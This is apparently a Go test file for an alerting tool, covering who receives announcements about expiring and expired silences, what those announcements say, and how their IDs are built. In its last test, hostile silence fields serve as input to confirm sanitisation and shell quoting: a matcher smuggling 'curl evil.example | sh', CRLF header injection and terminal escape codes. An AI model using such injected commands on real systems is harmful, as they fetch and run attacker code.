package announce

import (
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/alerter/alerter"
	"github.com/alerter/alerter/config"
	"github.com/alerter/alerter/rules"
	"github.com/alerter/alerter/silences"
)

var t0 = time.Date(2024, 5, 14, 10, 0, 0, 0, time.UTC)

var announceRules = &rules.Set{Rules: []*rules.Rule{
	{ID: "export-burst", Severity: alerter.High, Enabled: true, Notify: []string{"pager", "slack"}},
	{ID: "admin-added", Severity: alerter.Critical, Enabled: true, Labels: map[string]string{"team": "security"}},
	{ID: "page-created", Severity: alerter.Info, Enabled: true},
	{ID: "export-small", Severity: alerter.Low, Enabled: false, Notify: []string{"email"}},
}}

var announceRoutes = alerter.Routes{"critical": {"pager"}, "default": {"chat"}}

func silenceOf(t *testing.T, id string, ms ...string) silences.Silence {
	t.Helper()
	sl := silences.Silence{ID: id, StartsAt: t0, EndsAt: t0.Add(4 * time.Hour), CreatedBy: "oncall", Comment: "db migration"}
	for _, m := range ms {
		pm, err := silences.ParseMatcher(m)
		if err != nil {
			t.Fatal(err)
		}
		sl.Matchers = append(sl.Matchers, pm)
	}
	return sl
}

// An announcement goes where the silenced alerts went; with none
// silenced, where the alerts of the enabled rules it covers go, as the
// evaluator routes them.
func TestTargets(t *testing.T) {
	tests := []struct {
		name     string
		matchers []string
		count    *silences.Count
		want     []string
	}{
		{"silenced alerts' targets", []string{"rule=export-burst"}, &silences.Count{Alerts: 3, Targets: []string{"slack", "pager", "webhook"}}, []string{"pager", "slack", "webhook"}},
		{"a rule's notify list", []string{"rule=export-burst"}, nil, []string{"pager", "slack"}},
		{"by severity", []string{"label.team=security"}, nil, []string{"pager"}},
		{"the default route", []string{"severity=info"}, nil, []string{"chat"}},
		{"several rules, once each", []string{"rule=~export-.*|admin-added"}, nil, []string{"pager", "slack"}},
		{"a disabled rule is none", []string{"rule=export-small"}, nil, nil},
		{"group matchers may match every rule", []string{"group.event.actor.name=ann"}, nil, []string{"chat", "pager", "slack"}},
		{"no such rule", []string{"rule=gone"}, &silences.Count{}, nil},
	}
	for _, tt := range tests {
		got := Targets(Input{Silence: silenceOf(t, "S1", tt.matchers...), Count: tt.count, Rules: announceRules, Routes: announceRoutes})
		if !slices.Equal(got, tt.want) {
			t.Errorf("%s: %v, want %v", tt.name, got, tt.want)
		}
	}
}

// What each announcement says, as docs/notifications.md shows it.
func TestAlertWords(t *testing.T) {
	counted := &silences.Count{Alerts: 3, First: t0.Add(time.Minute), Last: t0.Add(2 * time.Hour),
		Rules: []string{"export-burst", "admin-added"}, Targets: []string{"slack"}}
	tests := []struct {
		name      string
		kind      Kind
		count     *silences.Count
		url       string
		title     string
		text, not []string
	}{
		{"about to end, nothing yet", Expiring, nil, "https://alerter.example.com/",
			"Silence S1 by oncall ends at 2024-05-14 14:00:00 UTC",
			[]string{"Silence S1 by oncall (db migration) over rule=export-burst, group.event.actor.name=~svc-.* ends at 2024-05-14 14:00:00 UTC; no alerts suppressed so far.",
				"`alerter silence add --for 2h --comment '...' 'rule=export-burst' 'group.event.actor.name=~svc-.*'`",
				"or in the web UI: https://alerter.example.com/silences."},
			nil},
		{"about to end, counted", Expiring, counted, "",
			"Silence S1 by oncall ends at 2024-05-14 14:00:00 UTC",
			[]string{"; 3 alerts of rules export-burst, admin-added suppressed so far."},
			[]string{"web UI", "https://"}},
		{"ended", Expired, counted, "https://alerter.example.com",
			"Silence S1 ended; it suppressed 3 alerts of rules export-burst, admin-added",
			[]string{"ended at 2024-05-14 14:00:00 UTC; it suppressed 3 alerts of rules export-burst, admin-added between 2024-05-14 10:01:00 UTC and 2024-05-14 12:00:00 UTC; new alerts are sent again.",
				"\nSilences: https://alerter.example.com/silences"},
			[]string{"alerter silence add"}},
		{"ended, one alert of more rules than kept", Expired, &silences.Count{Alerts: 1, First: t0, Last: t0, Rules: []string{"export-burst"}, MoreRules: true}, "",
			"Silence S1 ended; it suppressed 1 alert of rules export-burst and more",
			[]string{"it suppressed 1 alert of rules export-burst and more at 2024-05-14 10:00:00 UTC;"},
			nil},
	}
	for _, tt := range tests {
		sl := silenceOf(t, "S1", "rule=export-burst", "group.event.actor.name=~svc-.*")
		a := Alert(tt.kind, Input{Silence: sl, Count: tt.count, Rules: announceRules, Routes: announceRoutes, ExternalURL: tt.url, Now: t0.Add(3 * time.Hour)})
		if a.Title != tt.title {
			t.Errorf("%s: title %q, want %q", tt.name, a.Title, tt.title)
		}
		for _, w := range tt.text {
			if !strings.Contains(a.Text, w) {
				t.Errorf("%s: text lacks %q:\n%s", tt.name, w, a.Text)
			}
		}
		for _, w := range tt.not {
			if strings.Contains(a.Text, w) {
				t.Errorf("%s: text has %q:\n%s", tt.name, w, a.Text)
			}
		}
		if a.Severity != alerter.Info || a.Rule != tt.kind.rule() || a.Event == nil || a.Event.Source != config.OwnSource ||
			a.ID != ID(tt.kind, "S1", sl.EndsAt) || a.Group["silence"] != "S1" {
			t.Errorf("%s: %+v", tt.name, a)
		}
	}
}

// The id of an announcement is the same for the same silence, kind and
// end, and a subject token (ALERTS files alerts under it), whatever the
// silence's id is.
func TestID(t *testing.T) {
	a, b := ID(Expired, "S1", t0), ID(Expired, "S1", t0.In(time.FixedZone("x", 3600)))
	if a != b {
		t.Errorf("the same end in two zones: %s, %s", a, b)
	}
	for _, other := range []string{ID(Expiring, "S1", t0), ID(Expired, "S2", t0), ID(Expired, "S1", t0.Add(time.Nanosecond))} {
		if other == a {
			t.Errorf("%s for another announcement", other)
		}
	}
	if id := ID(Expired, "forged.id *>\n", t0); strings.ContainsAny(id, ".*> \t\r\n") {
		t.Errorf("id %q is no subject token", id)
	}
}

// A silence's author, comment and matchers are whatever its creator
// wrote: in an announcement each stays on its line, bounded, and the
// matchers in the command to extend it are quoted for a shell.
func TestHostileSilence(t *testing.T) {
	sl := silenceOf(t, "S1\nForged: header", `group.event.actor.name=x'; curl evil.example | sh; echo '`)
	sl.CreatedBy = "mallory\r\nBcc: victim@example.com" + strings.Repeat("m", 500)
	sl.Comment = "<!channel> \x1b[2J\u202eok\nSecond line: " + strings.Repeat("c", 5000)
	for _, k := range []Kind{Expiring, Expired} {
		a := Alert(k, Input{Silence: sl, Count: &silences.Count{Alerts: 1, First: t0, Last: t0}, Now: t0})
		if strings.ContainsAny(a.Title, "\r\n\x1b\u202e") || utf8.RuneCountInString(a.Title) > 400 {
			t.Errorf("%s: title %q", k, a.Title)
		}
		lines := strings.Split(a.Text, "\n")
		want := map[Kind]int{Expiring: 2, Expired: 1}[k] // the expired one has no link without an external URL
		if len(lines) != want || strings.ContainsAny(a.Text, "\r\x1b\u202e") || strings.Contains(a.Text, "\nSecond line") ||
			strings.Contains(a.Text, "\nBcc:") || strings.Contains(a.Text, "\nForged") {
			t.Errorf("%s: text of %d lines: %q", k, len(lines), a.Text)
		}
		if n := utf8.RuneCountInString(a.Text); n > 2000 {
			t.Errorf("%s: text of %d characters", k, n)
		}
		if k == Expiring && !strings.Contains(a.Text, `'group.event.actor.name=x'\''; curl evil.example | sh; echo '\'''`) {
			t.Errorf("the matcher is not quoted for a shell: %s", a.Text)
		}
	}
}
